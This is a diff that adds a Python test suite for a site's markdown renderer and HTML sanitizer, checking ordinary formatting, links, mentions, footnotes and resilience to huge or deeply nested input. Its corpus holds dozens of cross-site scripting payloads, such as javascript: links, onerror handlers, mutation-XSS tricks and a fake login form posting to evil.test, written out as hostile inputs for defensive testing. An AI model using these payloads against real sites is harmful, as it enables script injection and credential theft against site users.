@@ -1,0 +1,353 @@
+"""Markdown of members: what it can do, and that nothing hostile passes either of its two walls."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from portal.text.markdown import ATTRIBUTES, CLASSES, DEEPEST, OWN_ID, TAGS, clean, mentioned, plain, render
+
+ALWAYS = {"class", "rel"}
+VOID = {"br", "hr"}
+
+
+class House(HTMLParser):
+    """Reads HTML as a browser might, and holds it against the house rules."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        assert tag in TAGS, f"<{tag}>"
+        if tag not in VOID:
+            self.open.append(tag)
+        for name, value in attrs:
+            assert name in ATTRIBUTES.get(tag, set()) | ALWAYS, f"<{tag} {name}>"
+            getattr(self, f"check_{name.replace('-', '_')}", lambda *_: None)(tag, value or "")
+
+    def handle_endtag(self, tag):
+        assert tag in TAGS
+        if tag not in VOID:
+            assert self.open.pop() == tag
+
+    def handle_comment(self, data):
+        raise AssertionError(f"<!--{data}-->")
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+    def check_class(self, tag, value):
+        assert set(value.split()) <= CLASSES.get(tag, set())
+
+    def check_rel(self, tag, value):
+        assert (tag, value) == ("a", "nofollow ugc noopener noreferrer")
+
+    def check_id(self, tag, value):
+        assert OWN_ID.fullmatch(value)
+
+    def check_href(self, tag, value):
+        parts = urlsplit(value)
+        is_web = parts.scheme in ("http", "https") and parts.netloc
+        is_path = not parts.scheme and not parts.netloc and value.startswith(("/", "#fn"))
+        assert is_web or is_path or parts.scheme == "mailto", value
+        assert not set("\\\t\r\n\0") & set(value)
+
+
+def check(markup: str) -> None:
+    house = House()
+    house.feed(markup)
+    house.close()
+    assert house.open == []
+
+
+MARKUP = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
+    "<embed src=//evil.test/x.swf>",
+    "<form action=//evil.test><input name=password><button>Sign in</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>@import '//evil.test/x.css'</style>",
+    "<div style='background:url(//evil.test/p.gif)'>x</div>",
+    "<p onclick=alert(1)>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='//evil.test'>x</a>",
+    "<a href='/\\evil.test'>x</a>",
+    "<a href='\\\\evil.test'>x</a>",
+    "<a href='https:evil.test'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='/x' target=_blank rel=opener>x</a>",
+    "<a href='/x' ping='//evil.test'>x</a>",
+    "<a id=main href=/x>x</a><li id=user>x</li>",
+    "<span class='btn vh' data-person='1\"onmouseover=alert(1)'>x</span>",
+    "<span class=mention data-person=../admin>x</span>",
+    "<div class='watch err' role=alert tabindex=-1>x</div>",
+    "<video poster=//evil.test/p.gif><source src=//evil.test/x.mp4></video>",
+    "<audio src=//evil.test/x.mp3 autoplay>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title><script>alert(1)</script></title>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext>everything after",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><x/>",
+    "<!DOCTYPE html><html><body onload=alert(1)>",
+    "<a href=/x><a href=/y>nested</a></a></p></div></div>",
+    "<table><tr><td><form><td></table>",
+    "<h1>Not a heading of ours</h1><marquee>x</marquee>",
+    "<custom-element onclick=alert(1)>x</custom-element>",
+    "<x\0y><scr\0ipt>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+]
+SOURCES = [
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](javascript&#58;alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.test)",
+    "[x](/\\evil.test)",
+    "[x](\\\\evil.test)",
+    "[x](/%5Cevil.test)",
+    "[x](https:evil.test)",
+    "[x](http://[::1)",
+    "[x](relative/path)",
+    "[x](#main)",
+    "[x](?next=//evil.test)",
+    '[x](/ok "onmouseover=alert(1)")',
+    '[x](/ok "\\"><script>alert(1)</script>")',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x]: //evil.test\n\n[x][x]",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "![x](javascript:alert(1))",
+    "![x](https://tracker.test/p.gif)",
+    '!["onerror=alert(1)](https://tracker.test/p.gif)',
+    "![x](//tracker.test/p.gif)",
+    "![x](data:image/png;base64,AAAA)",
+    "[![x](https://tracker.test/p.gif)](javascript:alert(1))",
+    'http://evil.test/"onmouseover=alert(1)',
+    "https://evil.test/<script>alert(1)</script>",
+    "javascript://evil.test/%0aalert(1)",
+    "@[<img src=x onerror=alert(1)>](person:1)",
+    '@["onmouseover="alert(1)](person:1)',
+    "@[x](person:1 onclick=alert(1))",
+    "@[x](person:-1) @[x](person:999999999999999999999)",
+    "@[x](javascript:alert(1))",
+    '```"><script>alert(1)</script>\nx\n```',
+    "``` js onclick=alert(1)\nx\n```",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "|<script>|x|\n|:-:|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
+    '[^"><script>]\n\n[^"><script>]: x',
+    "[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "*<b onclick=alert(1)>*",
+    "> <script>\n> alert(1)\n> </script>",
+    "- <svg onload=alert(1)>",
+    "x\u2028<script>alert(1)</script>",
+    "\u202e<script>alert(1)</script>",
+    "<a href='x'>\n\n[y](javascript:alert(1))\n\n</a>",
+]
+CORPUS = [*MARKUP, *SOURCES]
+
+
+def test_corpus_is_large_and_without_doubles():
+    assert len(set(CORPUS)) == len(CORPUS) >= 100
+
+
+@pytest.mark.parametrize("source", CORPUS)
+def test_hostile_text_comes_out_as_the_house_rules_say(source):
+    for text in (source, f"> {source}", f"- {source}", f"Words {source} words", f"| {source} |\n|-|\n"):
+        made = render(text, key="k")
+        check(made)
+        assert clean(made) == made
+
+
+@pytest.mark.parametrize("source", CORPUS)
+def test_second_wall_holds_by_itself(source):
+    made = clean(clean(source))
+    check(clean(source))
+    assert clean(made) == made
+
+
+@pytest.mark.parametrize("source", CORPUS)
+def test_plain_words_are_one_line_of_text(source):
+    words = plain(f"{source}\n\nNext *line*")
+    assert "\n" not in words
+    assert "Next line" in words
+
+
+PIECES = [
+    *CORPUS,
+    *(
+        "<",
+        ">",
+        "[",
+        "]",
+        "(",
+        ")",
+        "!",
+        "`",
+        "```\n",
+        "*",
+        "_",
+        "~~",
+        "|",
+        "\n",
+        "\n\n",
+        "    ",
+        "> ",
+        "- ",
+        "1. ",
+        "#",
+    ),
+    *("\\", "&", ";", "&#", "&#x", ":", "//", "javascript:", "data:", "https://", "@[", "](person:", "[^a]", "[^a]: "),
+    *('"', "'", "=", " on", "\t", "\r", "\0", "\ufffe", "\u202e", "href=", "style=", "<a ", "<!--", "-->", "</"),
+]
+hostile = st.lists(st.sampled_from(PIECES) | st.text(max_size=6), max_size=14).map("".join)
+quick = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+
+
+@quick
+@given(hostile)
+def test_whatever_is_written_keeps_the_house_rules(source):
+    check(render(source, key="k"))
+    assert "\n" not in plain(source)
+
+
+@quick
+@given(hostile)
+def test_whatever_html_comes_to_the_second_wall_keeps_the_house_rules(source):
+    check(clean(source))
+
+
+# --- What it can do -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("source", "made"),
+    [
+        ("**b** _i_ ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
+        ("a\nb  \nc", "<p>a\nb<br>\nc</p>\n"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
+        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
+        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
+        ("# Title", "<h3>Title</h3>\n"),
+        ("###### Small", "<h6>Small</h6>\n"),
+        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
+        ("@[Bo Li](person:7)", '<p><span class="mention" data-person="7">@Bo Li</span></p>\n'),
+    ],
+)
+def test_what_members_write(source, made):
+    assert render(source, key="k") == made
+
+
+def test_links_to_the_web_to_this_site_and_to_addresses():
+    rel = 'rel="nofollow ugc noopener noreferrer"'
+    made = render("[a](https://x.test/?a=1&b=2) [b](/lg/3.2/) <c@x.test> https://y.test/z", key="k")
+    assert made == (
+        f'<p><a href="https://x.test/?a=1&amp;b=2" {rel}>a</a> <a href="/lg/3.2/" {rel}>b</a> '
+        f'<a href="mailto:c@x.test" {rel}>c@x.test</a> <a href="https://y.test/z" {rel}>https://y.test/z</a></p>\n'
+    )
+
+
+def test_image_is_a_link_to_it():
+    made = render("![A plan](https://x.test/plan.png)", key="k")
+    assert ">A plan</a>" in made
+    assert "<img" not in made
+
+
+def test_table_can_be_scrolled_by_keyboard():
+    made = render("|a|b|\n|-|-:|\n|1|2|", key="k")
+    assert '<div class="scroll" tabindex="0" role="region" aria-label="Table"><table>' in made
+    assert '<th class="right">b</th>' in made
+
+
+def test_footnotes_of_two_posts_have_ids_of_their_own():
+    one, two = (render("A[^1]\n\n[^1]: Note", key=key) for key in ("one", "two"))
+    assert 'id="fn-one-1"' in one
+    assert 'href="#fnref-two-1"' in two
+    assert plain("A[^1]\n\n[^1]: Note") == "A Note"
+
+
+def test_people_who_are_named_are_found_once_in_order():
+    assert mentioned("@[B](person:2) @[A](person:1) @[B](person:2) @[C](person:x) @C") == [2, 1]
+
+
+def test_plain_words_carry_no_marks():
+    source = "# A\n\n**b** [c](https://x.test) <i>\n\n- d\n- e\n\n|f|g|\n|-|-|\n|h|i|\n\n@[Bo](person:1)"
+    assert plain(source) == "A b c <i> d e f g h i @Bo"
+
+
+# --- Its ends -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("source", ["", " ", "\n\n", "\t"])
+def test_nothing_stays_nothing(source):
+    assert (render(source, key="k"), plain(source)) == ("", "")
+
+
+@pytest.mark.parametrize("source", ["\0", "\ufeff", "\ud7ff", "\u202e", "\u2028"])
+def test_what_is_not_seen_is_no_error(source):
+    check(render(source, key="k"))
+    assert "\n" not in plain(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["a" * 100_000, "word " * 20_000, "\n" * 100_000, "**a** " * 16_000, "|a|\n|-|\n" + "|b|\n" * 20_000],
+    ids=["one word", "words", "lines", "bold", "rows"],
+)
+def test_a_hundred_kilobytes_are_no_error(source):
+    made = render(source[:100_000], key="k")
+    check(made)
+    assert len(made) < 2_000_000
+
+
+@pytest.mark.parametrize(
+    "mark", [">", "> ", "- ", "1. ", "* > ", "[", "![", "*", "_", "(", "`", "~~", "[^a]", "<", "@["]
+)
+def test_ten_thousand_marks_inside_one_another_are_no_error(mark):
+    check(render(f"{mark * (10_000 // len(mark))} the end", key="k"))
+
+
+@pytest.mark.parametrize("mark", ["> ", "- ", "1. ", "> - "])
+def test_what_is_nested_too_deep_is_printed_as_text_and_nothing_after_it_is_lost(mark):
+    made = render(f"{mark * (DEEPEST + 30)}deep\n\nAfter all that.", key="k")
+    check(made)
+    assert "deep" in made
+    assert "After all that." in made
